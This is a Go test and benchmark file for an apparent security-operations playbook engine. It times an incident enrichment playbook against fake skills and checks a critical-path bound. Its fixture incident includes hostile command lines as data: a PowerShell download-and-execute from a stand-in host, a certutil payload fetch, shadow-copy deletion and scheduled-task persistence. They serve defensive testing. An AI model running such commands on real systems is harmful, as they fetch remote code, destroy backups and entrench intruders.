package playbook

import (
	"context"
	"encoding/json"
	"fmt"
	"math"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/spotter-soc/spotter/internal/incident"
	"github.com/spotter-soc/spotter/internal/investigate"
	"github.com/spotter-soc/spotter/internal/report"
	"github.com/spotter-soc/spotter/internal/skill"
)

// benchLatency is how long every fake skill call takes.
const benchLatency = 200 * time.Millisecond

// benchSpecs mirror the shape of the built-in plugins' enrichment skills:
// most take one indicator per call, a few take lists.
var benchSpecs = func() []skill.Spec {
	one := func(id, input, section string, types ...string) skill.Spec {
		return skill.Spec{ID: id, Enriches: types, IndicatorInput: input, Section: section,
			Inputs: []skill.Input{{Name: input, Type: skill.TypeString, Required: true}}}
	}
	list := func(id, input, section string, max int, types ...string) skill.Spec {
		return skill.Spec{ID: id, Enriches: types, IndicatorInput: input, Section: section,
			Inputs: []skill.Input{{Name: input, Type: skill.TypeStringList, Required: true, Max: intp(max)}}}
	}
	return []skill.Spec{
		one("bench.IPAbuse", "ip", report.SectionIPs, "ip"),
		one("bench.IPReport", "ip", report.SectionIPs, "ip"),
		one("bench.HostReputation", "host", report.SectionIndicators, "ip", "domain"),
		one("bench.PulseLookup", "indicator", report.SectionIndicators, "ip", "domain", "url", "hash"),
		one("bench.IOCLookup", "ioc", report.SectionIndicators, "ip", "domain", "url", "hash"),
		list("bench.LocalIntel", "indicators", report.SectionIndicators, 100, "ip", "domain", "url", "hash", "email"),
		one("bench.UserDetails", "user", report.SectionAccounts, "account"),
		list("bench.UserRisk", "users", report.SectionUserRisk, 20, "account"),
		one("bench.DeviceCompliance", "device", report.SectionDevices, "host"),
		list("bench.CommandLines", "cmdlines", report.SectionProcesses, 50, "process"),
		one("bench.FileReport", "hash", report.SectionIndicators, "hash"),
		one("bench.HashBazaar", "hash", report.SectionIndicators, "hash"),
		one("bench.URLReport", "url", report.SectionIndicators, "url"),
		one("bench.URLHaus", "url", report.SectionIndicators, "url"),
		one("bench.DomainReport", "domain", report.SectionIndicators, "domain"),
	}
}()

// slowSkills answers every call after benchLatency with one benign
// finding per indicator.
type slowSkills struct {
	latency time.Duration
	calls   atomic.Int64
}

func (s *slowSkills) Invoke(ctx context.Context, name string, raw map[string]any) (*skill.Result, error) {
	s.calls.Add(1)
	if s.latency > 0 {
		t := time.NewTimer(s.latency)
		defer t.Stop()
		select {
		case <-ctx.Done():
			return nil, ctx.Err()
		case <-t.C:
		}
	}
	res := &skill.Result{}
	for _, v := range raw {
		vals, ok := v.([]any)
		if !ok {
			vals = []any{v}
		}
		for _, x := range vals {
			res.Findings = append(res.Findings, skill.Finding{Indicator: fmt.Sprint(x), Level: skill.Benign, Score: 5, Summary: "nothing known"})
		}
	}
	return res, nil
}

// benchIncident is an incident with 50 entities: 10 public IPs, 8
// accounts, 6 hosts, 6 command lines, 8 file hashes, 6 URLs and 6 domains.
func benchIncident(tb testing.TB) *incident.Incident {
	tb.Helper()
	var ents []map[string]any
	add := func(kind string, props map[string]any) {
		ents = append(ents, map[string]any{"id": fmt.Sprintf("e%02d", len(ents)+1), "kind": kind, "properties": props})
	}
	for i := range 10 {
		add("Ip", map[string]any{"address": fmt.Sprintf("185.220.101.%d", 10+i)})
	}
	for i := range 8 {
		add("Account", map[string]any{"accountName": fmt.Sprintf("user%d", i), "upnSuffix": "contoso.com"})
	}
	for i := range 6 {
		add("Host", map[string]any{"hostName": fmt.Sprintf("WKS-%03d", i), "dnsDomain": "corp.contoso.com"})
	}
	cmds := []string{
		`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://cdn-update.example-bad.net/a.ps1')"`,
		`certutil.exe -urlcache -split -f http://files.example-bad.org/p.exe C:\Users\Public\p.exe`,
		`vssadmin.exe delete shadows /all /quiet`,
		`rundll32.exe C:\ProgramData\x.dll,Start`,
		`cmd.exe /c whoami /all > C:\Users\Public\w.txt`,
		`schtasks.exe /create /tn Updater /tr C:\ProgramData\u.exe /sc minute /mo 5`,
	}
	for _, c := range cmds {
		add("Process", map[string]any{"commandLine": c})
	}
	for i := range 8 {
		add("FileHash", map[string]any{"algorithm": "SHA256", "hashValue": strings.Repeat(fmt.Sprintf("%x", 10+i%6), 64)[:60] + fmt.Sprintf("%04d", i)})
	}
	for i := range 6 {
		add("Url", map[string]any{"url": fmt.Sprintf("https://login-%d.phish.example-bad.com/auth", i)})
	}
	for i := range 6 {
		add("DnsResolution", map[string]any{"domainName": fmt.Sprintf("c2-%d.example-bad.net", i)})
	}
	data, err := json.Marshal(map[string]any{
		"incident": map[string]any{"name": "bench", "properties": map[string]any{
			"title": "Benchmark incident with fifty entities", "severity": "High", "status": "New", "incidentNumber": 50}},
		"entities": ents,
	})
	if err != nil {
		tb.Fatal(err)
	}
	inc, err := incident.Parse(data)
	if err != nil {
		tb.Fatal(err)
	}
	if len(inc.Entities) != 50 {
		tb.Fatalf("%d entities, want 50", len(inc.Entities))
	}
	return inc
}

// sequential rewrites a playbook so nothing runs concurrently: every
// for_each and batch gets concurrency 1 and every parallel step becomes a
// group running its branches in order.
func sequential(steps []*Step) {
	for _, st := range steps {
		switch st.Kind {
		case KindForEach, KindBatch:
			st.Concurrency = 1
		case KindParallel:
			st.Kind, st.Steps, st.Branches = KindGroup, st.Branches, nil
		}
		sequential(children(st))
	}
}

// criticalPath is the lower bound of a run's wall time in units of one
// skill call, computed from the playbook's structure on an incident:
//
//   - a call is 1;
//   - a sequence (steps, then, else) is the sum of its steps;
//   - an if counts the branch its condition picks, a step whose when is
//     false counts 0;
//   - parallel is the longest of its branches;
//   - a for_each or batch over n iterations whose bodies cost
//     d_1 >= d_2 >= ... >= d_n, with concurrency c, is the largest of d_1
//     (no iteration is shorter than its own chain), ceil(sum d_i / c) (c
//     slots do at most c iterations' work per unit of time) and, when
//     n > c, d_c + d_(c+1) (of the c+1 longest iterations two share a
//     slot, one after the other);
//   - set, append, report and the other local steps are 0.
//
// Loop lists, batch sizes and conditions are evaluated with the run's own
// expressions and helpers (entity_values, enrichers), so the bound follows
// the playbook as written. No call in the built-in playbook reads another
// call's output, so the bound is set by the sequencing and the declared
// concurrency limits alone; with unlimited concurrency it would be 1.
type criticalPath struct {
	r     *run
	funcs map[string]Func
}

func newCriticalPath(tb testing.TB, in *Interpreter, pb *Playbook, inc *incident.Incident) *criticalPath {
	tb.Helper()
	inputs, err := ResolveInputs(pb, nil)
	if err != nil {
		tb.Fatal(err)
	}
	r := &run{in: in, pb: pb, req: Request{Incident: inc}, vars: map[string]any{}, inputs: inputs,
		ents: incident.Categorize(inc, in.Options), trigger: map[string]any{"kind": TriggerIncident},
		runInfo: map[string]any{"id": "bench", "playbook": pb.Name}}
	funcs := Library()
	for k, f := range r.incidentFuncs() {
		funcs[k] = f
	}
	return &criticalPath{r: r, funcs: funcs}
}

func (cp *criticalPath) eval(tb testing.TB, e *Expr, locals map[string]any) any {
	tb.Helper()
	s := Scope{"inputs": cp.r.inputs, "vars": map[string]any{}, "steps": map[string]any{}, "trigger": cp.r.trigger, "run": cp.r.runInfo}
	for k, v := range locals {
		s[k] = v
	}
	v, err := e.Eval(s, cp.funcs)
	if err != nil {
		tb.Fatalf("%s: %v", e, err)
	}
	return v
}

func (cp *criticalPath) seq(tb testing.TB, steps []*Step, locals map[string]any) int {
	n := 0
	for _, st := range steps {
		n += cp.step(tb, st, locals)
	}
	return n
}

func (cp *criticalPath) step(tb testing.TB, st *Step, locals map[string]any) int {
	if st.When != nil && !truthy(cp.eval(tb, st.When, locals)) {
		return 0
	}
	switch st.Kind {
	case KindCall:
		return 1
	case KindGroup:
		return cp.seq(tb, st.Steps, locals)
	case KindIf:
		if truthy(cp.eval(tb, st.Cond, locals)) {
			return cp.seq(tb, st.Then, locals)
		}
		return cp.seq(tb, st.Else, locals)
	case KindParallel:
		longest := 0
		for _, b := range st.Branches {
			longest = max(longest, cp.step(tb, b, locals))
		}
		return longest
	case KindForEach, KindBatch:
		items, err := asList(st.Kind, cp.eval(tb, st.Items, locals))
		if err != nil {
			tb.Fatal(err)
		}
		if st.Kind == KindBatch {
			size := int(cp.eval(tb, st.Size, locals).(float64))
			var chunks []any
			for _, c := range skill.Batches(items, size) {
				chunks = append(chunks, c)
			}
			items = chunks
		}
		var ds []int
		sum := 0
		for i, it := range items {
			inner := map[string]any{st.As: it, "index": float64(i)}
			for k, v := range locals {
				if _, shadowed := inner[k]; !shadowed {
					inner[k] = v
				}
			}
			d := cp.seq(tb, st.Steps, inner)
			ds, sum = append(ds, d), sum+d
		}
		if len(ds) == 0 {
			return 0
		}
		sort.Sort(sort.Reverse(sort.IntSlice(ds)))
		c := max(st.Concurrency, 1)
		bound := max(ds[0], (sum+c-1)/c)
		if len(ds) > c {
			bound = max(bound, ds[c-1]+ds[c])
		}
		return bound
	}
	return 0
}

// benchSetup loads the built-in enrichment playbook as written and a copy
// rewritten to run sequentially.
func benchSetup(tb testing.TB, latency time.Duration) (pb, seqPB *Playbook, in *Interpreter, fake *slowSkills, inc *incident.Incident) {
	tb.Helper()
	var err error
	if pb, err = Builtin(EnrichmentName); err != nil {
		tb.Fatal(err)
	}
	if seqPB, err = Builtin(EnrichmentName); err != nil {
		tb.Fatal(err)
	}
	sequential(seqPB.Steps)
	fake = &slowSkills{latency: latency}
	in = &Interpreter{Invoker: fake, Skills: benchSpecs, Options: incident.DefaultOptions()}
	return pb, seqPB, in, fake, benchIncident(tb)
}

func runBench(tb testing.TB, in *Interpreter, pb *Playbook, inc *incident.Incident) time.Duration {
	tb.Helper()
	start := time.Now()
	res, err := in.Run(context.Background(), pb, Request{Trigger: TriggerIncident, Incident: inc})
	if err != nil {
		tb.Fatal(err)
	}
	if res.Status != StatusSucceeded || res.Report == nil {
		tb.Fatalf("run %s: %s", res.Status, res.Message)
	}
	for _, c := range res.Report.Coverage {
		if c.Status == report.StatusFailed {
			tb.Fatalf("%s failed: %s", c.Skill, c.Detail)
		}
	}
	return time.Since(start)
}

// TestBenchCriticalPath checks the bound the benchmark divides by: run
// sequentially, the bound is exactly the number of calls made; as written,
// it is far lower.
func TestBenchCriticalPath(t *testing.T) {
	pb, seqPB, in, fake, inc := benchSetup(t, 0)
	runBench(t, in, seqPB, inc)
	calls := int(fake.calls.Load())
	if got := newCriticalPath(t, in, seqPB, inc).seq(t, seqPB.Steps, nil); got != calls {
		t.Errorf("sequential bound %d, want the %d calls made", got, calls)
	}
	fake.calls.Store(0)
	runBench(t, in, pb, inc)
	if n := int(fake.calls.Load()); n != calls {
		t.Errorf("%d calls as written, %d sequentially", n, calls)
	}
	got := newCriticalPath(t, in, pb, inc).seq(t, pb.Steps, nil)
	if got < 1 || got*4 > calls {
		t.Errorf("bound as written = %d calls' time, for %d calls", got, calls)
	}
	ents := incident.Categorize(inc, in.Options)
	var per []string
	for _, typ := range []string{"ip", "account", "host", "process", "hash", "url", "domain", "email"} {
		per = append(per, fmt.Sprintf("%s %d", typ, len(investigate.Values(ents, typ))))
	}
	t.Logf("%d calls; critical path %d calls long; indicators: %s", calls, got, strings.Join(per, ", "))
}

var seqWall struct {
	once sync.Once
	d    time.Duration
}

// BenchmarkEnrichmentPlaybook runs the built-in enrichment playbook on a
// 50-entity incident against skills that each take 200 ms, and reports its
// wall time as a ratio to the critical-path lower bound (x_lower_bound, 1
// is ideal) and to the same playbook with every loop at concurrency 1 and
// the parallel branches run in order (x_sequential).
//
//	go test ./internal/playbook/ -run '^$' -bench EnrichmentPlaybook -benchtime 5x
func BenchmarkEnrichmentPlaybook(b *testing.B) {
	pb, seqPB, in, fake, inc := benchSetup(b, benchLatency)
	bound := time.Duration(newCriticalPath(b, in, pb, inc).seq(b, pb.Steps, nil)) * benchLatency
	seqWall.once.Do(func() { seqWall.d = runBench(b, in, seqPB, inc) })
	fake.calls.Store(0)
	b.ResetTimer()
	var total time.Duration
	for range b.N {
		total += runBench(b, in, pb, inc)
	}
	b.StopTimer()
	wall := total / time.Duration(b.N)
	b.ReportMetric(float64(fake.calls.Load())/float64(b.N), "calls/op")
	b.ReportMetric(float64(bound.Milliseconds()), "lower_bound_ms")
	b.ReportMetric(float64(seqWall.d.Milliseconds()), "sequential_ms")
	b.ReportMetric(round4(float64(wall)/float64(bound)), "x_lower_bound")
	b.ReportMetric(round4(float64(wall)/float64(seqWall.d)), "x_sequential")
}

func round4(x float64) float64 { return math.Round(x*10000) / 10000 }
